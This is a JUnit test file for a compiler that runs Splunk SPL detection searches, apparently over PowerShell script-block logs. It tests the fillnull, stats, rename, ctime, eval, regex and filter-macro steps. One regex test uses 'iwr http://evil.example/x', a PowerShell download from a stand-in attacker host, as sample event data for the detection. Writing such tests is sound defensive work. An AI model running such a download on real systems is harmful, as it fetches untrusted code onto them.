package dev.escu.pssession.detection.spl;

import static dev.escu.pssession.detection.spl.Events.event;
import static dev.escu.pssession.detection.spl.Spl.compile;
import static dev.escu.pssession.detection.spl.Spl.refusal;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Optional;

import org.junit.jupiter.api.Test;

import dev.escu.pssession.detection.Ctime;

/** The commands after the first search: fillnull, stats BY, rename, ctime and the filter macro. */
class PipelineTest {

    private static final String STATS = " | stats count min(_time) as firstTime max(_time) as lastTime";
    private static final Instant FIRST = Instant.parse("2026-03-02T08:14:55.417203Z");
    private static final Instant LAST = Instant.parse("2026-03-02T09:00:00Z");

    @Test
    void statsDropsEventsWithANullByFieldWithoutFillnull() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest Path");
        assertThat(search.group(event().with("ScriptBlockText", "x").build())).isEmpty();
        assertThat(search.group(event().with("ScriptBlockText", "x").with("Path", "C:\\a.ps1").build()))
                .contains(List.of("host1", "C:\\a.ps1"));
    }

    @Test
    void fillnullFillsMissingByFieldsWithZero() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | fillnull" + STATS + " by dest Path signature");
        assertThat(search.group(event().with("ScriptBlockText", "x").build())).contains(List.of("host1", "0", "0"));
        assertThat(search.eventSteps()).containsExactly(new EventStep.FillNull(List.of("Path", "dest", "signature")));
    }

    @Test
    void lowerCaseByAndCommasBetweenByFields() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest, user_id,EventCode");
        assertThat(search.stats().byFields()).containsExactly("dest", "user_id", "EventCode");
        assertThat(compile("ScriptBlockText=*x*" + STATS + " BY dest").stats().byFields()).containsExactly("dest");
    }

    @Test
    void outputColumnsAreByFieldsThenAggregatesAsNamed() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | stats count as hits min(_time) as firstTime max(_time) as lastTime by dest user_id");
        assertThat(search.outputColumns()).containsExactly("dest", "user_id", "hits", "firstTime", "lastTime");
        assertThat(search.stats().countName()).isEqualTo("hits");
    }

    @Test
    void ctimeOnBothTimes() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest | `security_content_ctime(firstTime)` | `security_content_ctime(lastTime)`");
        assertThat(search.row(List.of("host1"), 3, FIRST, LAST, Ctime.UTC))
                .containsExactly("host1", "3", "2026-03-02T08:14:55", "2026-03-02T09:00:00");
    }

    @Test
    void ctimeOnOneTimeLeavesTheOtherAsEpochSeconds() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest | `security_content_ctime(firstTime)`");
        assertThat(search.firstTimeCtime()).isTrue();
        assertThat(search.lastTimeCtime()).isFalse();
        assertThat(search.row(List.of("host1"), 1, FIRST, FIRST, Ctime.UTC))
                .containsExactly("host1", "1", "2026-03-02T08:14:55", "1772439295.417203");
    }

    @Test
    void withoutCtimeBothTimesAreEpochSeconds() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest");
        assertThat(search.firstTimeText(LAST, Ctime.UTC)).isEqualTo("1772442000");
        assertThat(search.lastTimeText(FIRST, Ctime.UTC)).isEqualTo("1772439295.417203");
    }

    @Test
    void ctimeRendersInTheCallersZone() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest | `security_content_ctime(firstTime)`");
        assertThat(search.firstTimeText(FIRST, new Ctime(ZoneId.of("Europe/Berlin")))).isEqualTo("2026-03-02T09:14:55");
    }

    @Test
    void ctimeWrittenOutAsConvert() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest | convert timeformat=\"%Y-%m-%dT%H:%M:%S\" ctime(firstTime) ctime(lastTime)");
        assertThat(search.firstTimeCtime()).isTrue();
        assertThat(search.lastTimeCtime()).isTrue();
    }

    @Test
    void renameBeforeStatsMovesTheValue() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | rename Computer as host_name, UserID as user" + STATS + " by host_name user");
        assertThat(search.group(event().with("ScriptBlockText", "x").with("Computer", "WS1").build())).contains(List.of("WS1", "S-1-5-21-1"));
        assertThat(search.group(event().with("ScriptBlockText", "x").without("Computer").build())).isEmpty();
    }

    @Test
    void renameBeforeStatsRemovesTheSourceAndOverwritesTheDestination() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | rename Computer as dest | fillnull" + STATS + " by dest");
        // dest takes Computer's value; without Computer, dest goes too and fillnull makes it "0"
        assertThat(search.group(event().with("ScriptBlockText", "x").with("dest", "d").with("Computer", "c").build()))
                .contains(List.of("c"));
        assertThat(search.group(event().with("ScriptBlockText", "x").with("dest", "d").without("Computer").build()))
                .contains(List.of("0"));
        assertThat(search.eventSteps()).containsExactly(new EventStep.Rename("Computer", "dest"), new EventStep.FillNull(List.of("dest")));
    }

    @Test
    void renameAfterStatsRenamesOutputColumns() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by EventCode ScriptBlockText Computer UserID"
                + " | rename Computer as dest, UserID as user | `security_content_ctime(firstTime)`");
        assertThat(search.stats().byFields()).containsExactly("EventCode", "ScriptBlockText", "Computer", "UserID");
        assertThat(search.outputColumns()).containsExactly("EventCode", "ScriptBlockText", "dest", "user", "count", "firstTime", "lastTime");
    }

    @Test
    void missingFilterMacroKeepsEveryRow() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest | `my_detection_filter`");
        assertThat(search.rowSteps()).singleElement().satisfies(step ->
                assertThat(((RowStep.Filter) step).filter().expression()).isEqualTo(new SearchExpression.MatchAll()));
        assertThat(search.keepsRow(List.of("anything"))).isTrue();
    }

    @Test
    void presentFilterMacroFiltersRowsByTheirByFields() throws Exception {
        Macros macros = Spl.MACROS.overriddenBy(List.of(new Macro("my_detection_filter", List.of(), "search dest!=\"admin-*\"", "test")));
        CompiledSearch search = Spl.compile("ScriptBlockText=*x*" + STATS + " by Computer UserID | rename Computer as dest | `my_detection_filter`", macros);
        assertThat(search.keepsRow(List.of("ADMIN-01", "u"))).isFalse();
        assertThat(search.keepsRow(List.of("ws-01", "u"))).isTrue();
    }

    @Test
    void filterMacroThatNeedsCountIsRefused() {
        Macros macros = Spl.MACROS.overriddenBy(List.of(new Macro("my_detection_filter", List.of(), "search count>5", "test")));
        String search = "ScriptBlockText=*x*" + STATS + " by dest | `my_detection_filter`";
        UnsupportedSearchException refused = refusal(search, macros);
        assertThat(refused.reason()).contains("comparison operator '>'").contains("`my_detection_filter`");
        assertThat(refused.position()).isEqualTo(search.indexOf('`'));

        Macros reads = Spl.MACROS.overriddenBy(List.of(new Macro("my_detection_filter", List.of(), "search firstTime=2026*", "test")));
        assertThat(refusal(search, reads).reason()).contains("firstTime").contains("changes as events arrive");
    }

    @Test
    void searchAfterFillnullBeforeStats() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | fillnull | search Path=0" + STATS + " by dest");
        assertThat(search.group(event().with("ScriptBlockText", "x").build())).isPresent();
        assertThat(search.group(event().with("ScriptBlockText", "x").with("Path", "p").build())).isEmpty();
    }

    @Test
    void evalCaseIsNotNullFillsADefault() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | eval Path = case(isnotnull(Path),Path,true(),\"unknown\")" + STATS + " by dest Path");
        assertThat(search.group(event().with("ScriptBlockText", "x").build())).contains(List.of("host1", "unknown"));
        assertThat(search.group(event().with("ScriptBlockText", "x").with("Path", "p").build())).contains(List.of("host1", "p"));
    }

    @Test
    void evalCoalesceAndLiterals() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x* | eval file_name=coalesce(Path, 'ScriptBlockId', \"none\"), kind=7" + STATS + " by file_name kind");
        assertThat(search.group(event().with("ScriptBlockText", "x").with("ScriptBlockId", "id-1").build())).contains(List.of("id-1", "7"));
    }

    @Test
    void regexKeepsOrDropsByPattern() throws Exception {
        CompiledSearch keep = compile("ScriptBlockText=*http* | regex ScriptBlockText=\"https?://[a-z0-9.]+/\"" + STATS + " by dest");
        assertThat(keep.group(event().with("ScriptBlockText", "iwr http://evil.example/x").build())).isPresent();
        assertThat(keep.group(event().with("ScriptBlockText", "http only").build())).isEmpty();
        CompiledSearch drop = compile("ScriptBlockText=*http* | regex ScriptBlockText!=\"localhost\"" + STATS + " by dest");
        assertThat(drop.group(event().with("ScriptBlockText", "http://localhost/").build())).isEmpty();
        assertThat(drop.group(event().with("ScriptBlockText", "http://example/").build())).isPresent();
    }

    @Test
    void groupsCompareExactly() throws Exception {
        CompiledSearch search = compile("ScriptBlockText=*x*" + STATS + " by dest");
        Optional<List<String>> upper = search.group(event().with("ScriptBlockText", "x").with("dest", "HOST").build());
        Optional<List<String>> lower = search.group(event().with("ScriptBlockText", "x").with("dest", "host").build());
        assertThat(upper).isNotEqualTo(lower);
    }
}
